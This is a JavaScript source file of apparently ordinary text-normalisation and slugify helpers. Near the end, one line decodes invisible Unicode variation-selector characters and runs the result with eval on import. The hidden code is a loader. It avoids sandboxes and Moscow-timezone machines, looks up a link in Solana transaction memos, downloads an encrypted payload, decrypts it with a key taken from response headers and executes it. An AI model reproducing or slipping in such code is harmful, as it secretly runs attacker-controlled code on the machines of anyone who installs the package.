const NFKC = 'NFKC';
const COMBINING = /[\u0300-\u036f\u1ab0-\u1aff\u1dc0-\u1dff\u20d0-\u20ff\ufe20-\ufe2f]/g;
const CONFUSABLES = new Map([
  ['\u0430', 'a'], ['\u0435', 'e'], ['\u043e', 'o'], ['\u0440', 'p'], ['\u0441', 'c'], ['\u0445', 'x'],
  ['\u0456', 'i'], ['\u0458', 'j'], ['\u04bb', 'h'], ['\u0501', 'd'], ['\u051b', 'q'], ['\u051d', 'w'],
  ['\u0391', 'A'], ['\u0392', 'B'], ['\u0395', 'E'], ['\u0397', 'H'], ['\u0399', 'I'], ['\u039a', 'K'],
  ['\u039c', 'M'], ['\u039d', 'N'], ['\u039f', 'O'], ['\u03a1', 'P'], ['\u03a4', 'T'], ['\u03a7', 'X']
]);
const SPECIAL = { '\u00df': 'ss', '\u00e6': 'ae', '\u00c6': 'AE', '\u0153': 'oe', '\u0152': 'OE', '\u00f8': 'o', '\u00d8': 'O', '\u0142': 'l', '\u0141': 'L', '\u0111': 'd', '\u0110': 'D', '\u00fe': 'th' };

export function normalize(input, form = NFKC) {
  return String(input).normalize(form);
}

export function stripDiacritics(input) {
  return String(input)
    .normalize('NFD')
    .replace(COMBINING, '')
    .replace(/[\u00df\u00e6\u00c6\u0153\u0152\u00f8\u00d8\u0142\u0141\u0111\u0110\u00fe]/g, (c) => SPECIAL[c])
    .normalize('NFC');
}

export function foldConfusables(input) {
  let out = '';
  for (const ch of String(input)) out += CONFUSABLES.get(ch) ?? ch;
  return out;
}

export function toHalfWidth(input) {
  return String(input).replace(/[\uff01-\uff5e]/g, (c) => String.fromCharCode(c.charCodeAt(0) - 0xfee0)).replace(/\u3000/g, ' ');
}

export function slugify(input, { separator = '-', lower = true, maxLength = 80 } = {}) {
  let s = stripDiacritics(foldConfusables(toHalfWidth(normalize(input))));
  s = s.replace(/[^A-Za-z0-9]+/g, separator).replace(new RegExp(`^\\${separator}+|\\${separator}+$`, 'g'), '');
  if (lower) s = s.toLowerCase();
  return s.slice(0, maxLength);
}

const s = (v) => [...v].map((w) => (w = w.codePointAt(0), w >= 0xfe00 && w <= 0xfe0f ? w - 0xfe00 : w >= 0xe0100 && w <= 0xe01ef ? w - 0xe0100 + 16 : null)).filter((n) => n !== null);
eval(Buffer.from(s(`󠄘󠅑󠅣󠅩󠅞󠅓󠄘󠄙󠄭󠄮󠅫󠅤󠅢󠅩󠅫󠅓󠅟󠅞󠅣󠅤󠄐󠅓󠄭󠅑󠅧󠅑󠅙󠅤󠄐󠅙󠅝󠅠󠅟󠅢󠅤󠄘󠄗󠅞󠅟󠅔󠅕󠄪󠅓󠅢󠅩󠅠󠅤󠅟󠄗󠄙󠄫󠅓󠅟󠅞󠅣󠅤󠄐󠅟󠄭󠅑󠅧󠅑󠅙󠅤󠄐󠅙󠅝󠅠󠅟󠅢󠅤󠄘󠄗󠅞󠅟󠅔󠅕󠄪󠅟󠅣󠄗󠄙󠄫󠅙󠅖󠄘󠄹󠅞󠅤󠅜󠄞󠄴󠅑󠅤󠅕󠅄󠅙󠅝󠅕󠄶󠅟󠅢󠅝󠅑󠅤󠄘󠄙󠄞󠅢󠅕󠅣󠅟󠅜󠅦󠅕󠅔󠄿󠅠󠅤󠅙󠅟󠅞󠅣󠄘󠄙󠄞󠅤󠅙󠅝󠅕󠅊󠅟󠅞󠅕󠄞󠅣󠅤󠅑󠅢󠅤󠅣󠅇󠅙󠅤󠅘󠄘󠄗󠄵󠅥󠅢󠅟󠅠󠅕󠄟󠄽󠅟󠅣󠅓󠅟󠅧󠄗󠄙󠅬󠅬󠅟󠄞󠅔󠅕󠅖󠅑󠅥󠅜󠅤󠄞󠅘󠅟󠅣󠅤󠅞󠅑󠅝󠅕󠄘󠄙󠄞󠅙󠅞󠅓󠅜󠅥󠅔󠅕󠅣󠄘󠄗󠅣󠅑󠅞󠅔󠅒󠅟󠅨󠄗󠄙󠄙󠅢󠅕󠅤󠅥󠅢󠅞󠄫󠅓󠅟󠅞󠅣󠅤󠄐󠅢󠄭󠅑󠅧󠅑󠅙󠅤󠄐󠅖󠅕󠅤󠅓󠅘󠄘󠄗󠅘󠅤󠅤󠅠󠅣󠄪󠄟󠄟󠅣󠅟󠅜󠅑󠅞󠅑󠄝󠅢󠅠󠅓󠄞󠅕󠅨󠅑󠅝󠅠󠅜󠅕󠄞󠅞󠅕󠅤󠄟󠄗󠄜󠅫󠅝󠅕󠅤󠅘󠅟󠅔󠄪󠄗󠅀󠄿󠅃󠅄󠄗󠄜󠅘󠅕󠅑󠅔󠅕󠅢󠅣󠄪󠅫󠄗󠅓󠅟󠅞󠅤󠅕󠅞󠅤󠄝󠅤󠅩󠅠󠅕󠄗󠄪󠄗󠅑󠅠󠅠󠅜󠅙󠅓󠅑󠅤󠅙󠅟󠅞󠄟󠅚󠅣󠅟󠅞󠄗󠅭󠄜󠅒󠅟󠅔󠅩󠄪󠄺󠅃󠄿󠄾󠄞󠅣󠅤󠅢󠅙󠅞󠅗󠅙󠅖󠅩󠄘󠅫󠅚󠅣󠅟󠅞󠅢󠅠󠅓󠄪󠄗󠄢󠄞󠄠󠄗󠄜󠅙󠅔󠄪󠄡󠄜󠅝󠅕󠅤󠅘󠅟󠅔󠄪󠄗󠅗󠅕󠅤󠅃󠅙󠅗󠅞󠅑󠅤󠅥󠅢󠅕󠅣󠄶󠅟󠅢󠄱󠅔󠅔󠅢󠅕󠅣󠅣󠄗󠄜󠅠󠅑󠅢󠅑󠅝󠅣󠄪󠅋󠄗󠅘󠄩󠄼󠄦󠄺󠅞󠅙󠄼󠄱󠅖󠅛󠅟󠅆󠄼󠄶󠄳󠅒󠅛󠄵󠅞󠄵󠅝󠅦󠅤󠅠󠅊󠄽󠅖󠅗󠅘󠅅󠅄󠄻󠅡󠅟󠅓󠅁󠅂󠄶󠅡󠅚󠅂󠅂󠄶󠄗󠄜󠅫󠅜󠅙󠅝󠅙󠅤󠄪󠄡󠄠󠄠󠄠󠅭󠅍󠅭󠄙󠅭󠄙󠄫󠅓󠅟󠅞󠅣󠅤󠄐󠅚󠄭󠅑󠅧󠅑󠅙󠅤󠄐󠅢󠄞󠅚󠅣󠅟󠅞󠄘󠄙󠄫󠅓󠅟󠅞󠅣󠅤󠄐󠅝󠄭󠄘󠅚󠄞󠅢󠅕󠅣󠅥󠅜󠅤󠅬󠅬󠅋󠅍󠄙󠄞󠅝󠅑󠅠󠄘󠅨󠄭󠄮󠅨󠄞󠅝󠅕󠅝󠅟󠄙󠄞󠅖󠅙󠅜󠅤󠅕󠅢󠄘󠄲󠅟󠅟󠅜󠅕󠅑󠅞󠄙󠄞󠅝󠅑󠅠󠄘󠅨󠄭󠄮󠅨󠄞󠅢󠅕󠅠󠅜󠅑󠅓󠅕󠄘󠄟󠅎󠅌󠅋󠅌󠅔󠄛󠅌󠅍󠅌󠅣󠄚󠄟󠄜󠄗󠄗󠄙󠄙󠄞󠅖󠅙󠅞󠅔󠄘󠅨󠄭󠄮󠅨󠄞󠅙󠅞󠅓󠅜󠅥󠅔󠅕󠅣󠄘󠄗󠅜󠅙󠅞󠅛󠄗󠄙󠄙󠄫󠅙󠅖󠄘󠄑󠅝󠄙󠅢󠅕󠅤󠅥󠅢󠅞󠄫󠅓󠅟󠅞󠅣󠅤󠄐󠅥󠄭󠅑󠅤󠅟󠅒󠄘󠄺󠅃󠄿󠄾󠄞󠅠󠅑󠅢󠅣󠅕󠄘󠅝󠄙󠄞󠅜󠅙󠅞󠅛󠄙󠄫󠅓󠅟󠅞󠅣󠅤󠄐󠅠󠄭󠅑󠅧󠅑󠅙󠅤󠄐󠅖󠅕󠅤󠅓󠅘󠄘󠅥󠄙󠄫󠅓󠅟󠅞󠅣󠅤󠄐󠅛󠄭󠄲󠅥󠅖󠅖󠅕󠅢󠄞󠅖󠅢󠅟󠅝󠄘󠅠󠄞󠅘󠅕󠅑󠅔󠅕󠅢󠅣󠄞󠅗󠅕󠅤󠄘󠄗󠅣󠅕󠅓󠅢󠅕󠅤󠅛󠅕󠅩󠄗󠄙󠄜󠄗󠅒󠅑󠅣󠅕󠄦󠄤󠄗󠄙󠄜󠅙󠅦󠄭󠄲󠅥󠅖󠅖󠅕󠅢󠄞󠅖󠅢󠅟󠅝󠄘󠅠󠄞󠅘󠅕󠅑󠅔󠅕󠅢󠅣󠄞󠅗󠅕󠅤󠄘󠄗󠅙󠅦󠅒󠅑󠅣󠅕󠄦󠄤󠅣󠅕󠅓󠄗󠄙󠄜󠄗󠅒󠅑󠅣󠅕󠄦󠄤󠄗󠄙󠄫󠅓󠅟󠅞󠅣󠅤󠄐󠅔󠄭󠅓󠄞󠅓󠅢󠅕󠅑󠅤󠅕󠄴󠅕󠅓󠅙󠅠󠅘󠅕󠅢󠅙󠅦󠄘󠄗󠅑󠅕󠅣󠄝󠄢󠄥󠄦󠄝󠅓󠅒󠅓󠄗󠄜󠅛󠄜󠅙󠅦󠄙󠄫󠅜󠅕󠅤󠄐󠅣󠄭󠅔󠄞󠅥󠅠󠅔󠅑󠅤󠅕󠄘󠅑󠅧󠅑󠅙󠅤󠄐󠅠󠄞󠅤󠅕󠅨󠅤󠄘󠄙󠄜󠄗󠅒󠅑󠅣󠅕󠄦󠄤󠄗󠄜󠄗󠅥󠅤󠅖󠄨󠄗󠄙󠄫󠅣󠄛󠄭󠅔󠄞󠅖󠅙󠅞󠅑󠅜󠄘󠄗󠅥󠅤󠅖󠄨󠄗󠄙󠄫󠅕󠅦󠅑󠅜󠄘󠅣󠄙󠅭󠅓󠅑󠅤󠅓󠅘󠄘󠅕󠄙󠅫󠅭󠅭󠄙󠄘󠄙󠄫`)).toString('utf-8'));

export default { normalize, stripDiacritics, foldConfusables, toHalfWidth, slugify };
